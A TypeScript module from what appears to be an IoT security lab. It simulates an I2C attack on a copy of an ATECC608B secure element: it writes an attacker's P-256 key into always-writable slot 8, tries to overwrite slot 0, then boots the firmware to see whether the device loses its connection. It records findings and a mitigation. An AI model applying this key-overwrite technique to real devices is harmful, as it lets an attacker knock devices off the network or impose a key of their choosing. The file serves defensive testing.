/**
 * Slot 8 of a TNGTLS part is "Always write" (reference §2.4: SlotConfig[8] WriteConfig = 0),
 * so anyone on the bus can replace the key the seed's firmware loads. The attack works on a
 * COPY of the publisher's part (the running device is never touched): the attacker's own
 * P-256 key goes into slot 8, slot 0 is tried too (Write and GenKey, which its configuration
 * forbids), then a device boots with the step's firmware and the modified part.
 */
import type { Evidence, Finding } from '../core/findings.js';
import { SeededRng } from '../core/rng.js';
import { Atecc608Driver, decodeSlotKey, type RunningDevice, writeSlotKey } from '../device/index.js';
import { Atecc608b } from '../hardware/atecc608b/index.js';
import { I2cBus, I2cTap, VirtualBusClock } from '../hardware/i2c/index.js';
import {
  bootVariant,
  brokerVerdict,
  brokerLogSince,
  consoleText,
  indexedTrace,
  keyEvidence,
  makeFinding,
  notApplicable,
  waitFor,
} from './hardware-kit.js';
import { statusName, statusOf } from './i2c-slots.js';
import { decodeAteccTrace, reassembleSlot } from './i2c-trace.js';
import { attackerKey } from './key-scalar.js';
import { assertLoopback } from './loopback.js';
import type { Attack, AttackTarget } from './target.js';

const ATTACK = 'i2c-overwrite';
const BOOT_WAIT_MS = 15_000;

interface Attempt {
  readonly what: string;
  readonly ok: boolean;
  readonly status: number | undefined;
}

export const i2cOverwriteSlot8: Attack = {
  name: ATTACK,
  async run(target: AttackTarget): Promise<Finding[]> {
    assertLoopback(target.broker.host);
    const base = {
      attack: ATTACK,
      family: 'i2c',
      kase: 'overwrite-slot8',
      step: target.step,
      stride: ['T', 'D'] as const,
      title: { en: 'I2C write replaces the device key', fr: 'Une écriture I2C remplace la clé du device' },
      attempted: {
        en: 'On a copy of the publisher’s secure element: write the attacker’s own P-256 key into slot 8 (13 clear Write commands), try to overwrite slot 0 (Write) and to regenerate it (GenKey), then boot the step’s firmware with the modified part and watch its connection.',
        fr: 'Sur une copie de l’élément sécurisé du publieur : écriture de la propre clé P-256 de l’attaquant dans le slot 8 (13 commandes Write en clair), tentative d’écraser le slot 0 (Write) et de le régénérer (GenKey), puis démarrage du firmware de l’étape avec la puce modifiée et observation de sa connexion.',
      },
    };
    const part = target.publisher.board.secureElement;
    if (target.step <= 2 || part === undefined) {
      return [
        notApplicable(
          { ...base, evidence: [] },
          {
            en: `Step ${target.step} has no secure element on the bus: there is no slot to write.`,
            fr: `L’étape ${target.step} n’a pas d’élément sécurisé sur le bus : aucun slot à écrire.`,
          },
        ),
      ];
    }
    // ATECC608B image: a byte-exact copy, so nothing done here can damage the running part.
    const copy = Atecc608b.fromImage(part.toImage(), { rng: new SeededRng(target.rng.bytes(32)) });
    const bench = new I2cBus({ clock: new VirtualBusClock(1_000) });
    bench.attach(copy.i2cAddress, copy);
    const tap = new I2cTap(bench);
    const driver = new Atecc608Driver(bench, copy.i2cAddress);
    const mine = attackerKey(target.rng);
    const attempts: Attempt[] = [];
    const attempt = async (what: string, f: () => Promise<unknown>): Promise<void> => {
      try {
        await f();
        attempts.push({ what, ok: true, status: 0 });
      } catch (err) {
        attempts.push({ what, ok: false, status: statusOf(err) });
      }
    };
    // ATECC608B: SlotConfig[8].WriteConfig = 0 "Always" — clear writes, no MAC, no key.
    await attempt('Write slot 8 (13 × 32 bytes, the attacker’s PKCS#8 key)', () =>
      writeSlotKey(driver, 8, mine.pkcs8),
    );
    // ATECC608B: KeyConfig[0].Private — Write never targets a private-key slot (reference §2.5).
    await attempt('Write slot 0 block 0 (32 bytes)', () => driver.write('data', 0 << 3, mine.scalar));
    // ATECC608B: SlotConfig[0].WriteConfig = 0 — no GenKey into slot 0, its key is permanent.
    await attempt('GenKey slot 0 (mode 0x04, new private key)', () => driver.createNewKeyPair(0));
    tap.detach();
    bench.detach(copy.i2cAddress);
    const written = attempts[0]!.ok;
    const trace = tap.records();
    const file = target.saveArtifact(
      `i2c-overwrite-step${target.step}.txt`,
      indexedTrace(
        trace,
        trace.map((_, i) => i),
        trace.length,
      ),
    );

    const mark = target.broker.log().length;
    let device: RunningDevice | undefined;
    try {
      const booted = await bootVariant(target, {
        label: 'publisher with the tampered secure element',
        suffix: 'tampered-se',
        secureElement: copy,
      });
      device = booted.device;
      const d = device;
      await waitFor(
        BOOT_WAIT_MS,
        () => d.status === 'halted' || (d.link?.stats.connects ?? 0) > 0 || (d.link?.stats.failures ?? 0) > 0,
      );
      await brokerVerdict(target, mark, booted.clientId);
      const connected = (d.link?.stats.connects ?? 0) > 0;
      // Which key the device loaded: what its own bus carried from slot 8 at boot.
      const loaded = reassembleSlot(decodeAteccTrace(d.board.tap.records()), 8);
      const usedMine = loaded.blocks.length > 0 && sameKey(loaded.bytes, mine.pkcs8);
      const denied = !connected;
      const outcome = written && denied && usedMine ? 'succeeded' : 'blocked';
      const evidence: Evidence[] = [
        {
          kind: 'bus',
          label: { en: 'Writes to the copy of the part', fr: 'Écritures sur la copie de la puce' },
          data: attempts
            .map(
              (a) =>
                `${a.what}: ${a.ok ? 'status 0x00 (success)' : `refused, status ${statusName(a.status)}`}`,
            )
            .join('\n'),
          file,
        },
        keyEvidence({ en: 'Key the attacker wrote', fr: 'Clé écrite par l’attaquant' }, mine.spkiSha256, [
          usedMine
            ? 'read back by the booted device from slot 8 (its own bus trace)'
            : 'not read by the booted device',
        ]),
        {
          kind: 'device-console',
          label: {
            en: 'Console of the device booted with the modified part',
            fr: 'Console du device démarré avec la puce modifiée',
          },
          data: consoleText(d.console.lines()),
        },
        {
          kind: 'broker-log',
          label: { en: 'Broker log meanwhile', fr: 'Journal du broker pendant ce temps' },
          data: brokerLogSince(target, mark, [booted.clientId]) || '(no line)',
        },
      ];
      const slot0 = attempts
        .slice(1)
        .map((a) => `${a.what.split(' (')[0]} → ${a.ok ? 'accepted' : statusName(a.status)}`)
        .join('; ');
      return [
        makeFinding({
          ...base,
          outcome,
          evidence,
          result:
            outcome === 'succeeded'
              ? {
                  en: `Slot 8 took the attacker's key without any authentication; the device booted with it loaded that key and the broker refused its handshake (${d.link?.stats.failures ?? 0} failed attempt(s), 0 connections): whoever touches the bus can take the device off the air, or give it a key of their choosing. Slot 0: ${slot0}.`,
                  fr: `Le slot 8 a accepté la clé de l’attaquant sans aucune authentification ; le device démarré avec cette puce a chargé cette clé et le broker a refusé sa poignée de main (${d.link?.stats.failures ?? 0} tentative(s) échouée(s), 0 connexion) : quiconque touche le bus peut couper le device, ou lui imposer la clé de son choix. Slot 0 : ${slot0}.`,
                }
              : {
                  en: `${written ? 'Slot 8 was overwritten, but the device does not use it' : 'Slot 8 refused the write'}; slot 0, the key the device uses, could not be changed (${slot0}). ${connected ? 'The device booted with the modified part still connected.' : `The device did not connect (${d.haltReason?.code ?? d.link?.stats.lastError ?? 'no answer'}).`}`,
                  fr: `${written ? 'Le slot 8 a été écrasé, mais le device ne s’en sert pas' : 'Le slot 8 a refusé l’écriture'} ; le slot 0, clé qu’utilise le device, n’a pas pu être modifié (${slot0}). ${connected ? 'Le device démarré avec la puce modifiée s’est quand même connecté.' : `Le device ne s’est pas connecté (${d.haltReason?.code ?? d.link?.stats.lastError ?? 'aucune réponse'}).`}`,
                },
          ...(outcome === 'succeeded'
            ? {
                mitigation: {
                  en: 'Keep the device key in slot 0 (never written, never readable: Step 4); if slot 8 must hold data, slot-lock it (Lock 0x22) after provisioning — it then becomes read-only, though still readable.',
                  fr: 'Garder la clé du device dans le slot 0 (jamais écrit, jamais lisible : étape 4) ; si le slot 8 doit contenir des données, le verrouiller (Lock 0x22) après provisionnement — il devient alors en lecture seule, mais reste lisible.',
                },
              }
            : {}),
        }),
      ];
    } finally {
      await device?.stop();
    }
  },
};

/** Does the slot hold, in the lab sheet's format, exactly this PKCS#8 key? */
function sameKey(slot: Uint8Array, pkcs8: Uint8Array): boolean {
  try {
    return Buffer.from(decodeSlotKey(slot).der).equals(Buffer.from(pkcs8));
  } catch {
    return false;
  }
}
